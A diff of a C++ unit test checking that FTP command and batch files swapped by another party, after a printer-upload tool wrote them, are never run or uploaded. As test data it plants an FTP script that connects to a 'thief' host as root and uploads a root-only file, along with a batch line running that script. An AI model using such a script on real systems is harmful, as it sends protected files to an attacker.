@@ -212,7 +212,7 @@ TEST_F(SharedFolder, FilesSwappedAfterTheyWereWrittenAreNeverRunNorUploaded) {
   test::writeFile(dir / "root-only.bin", "root's own");
   ::chmod((dir / "root-only.bin").c_str(), 0600);
   const std::string theirScript =
-      "open " + addressText(thief.address()) + "\r\nroot\r\n\r\nbin\r\nput root-only.bin\r\nbye";
+      "open " + dottedOctets(thief.address()) + "\r\nroot\r\n\r\nbin\r\nput root-only.bin\r\nbye";
   const std::string expected(image.begin(), image.end());
 
   // Swapped between their writing and the run: the run is what was generated.
@@ -223,7 +223,7 @@ TEST_F(SharedFolder, FilesSwappedAfterTheyWereWrittenAreNeverRunNorUploaded) {
     ASSERT_TRUE(files.writeCommandFile(image));
     auto batch = files.writeText(kFtpBatchName, ftpBatchText());
     ASSERT_TRUE(batch);
-    ASSERT_TRUE(files.writeText(kFtpScriptName, sendScriptText(printer.address())));
+    ASSERT_TRUE(files.writeText(kFtpScriptName, *sendScriptText(printer.address())));
     plantForeignFile("rftpcmd.ftp", theirScript);
     plantForeignFile("rsic_cmd.bin", "swapped");
     plantForeignFile("rftpcmd.bat", "ftp -i -s:theirs.ftp > rftpcmd.log");
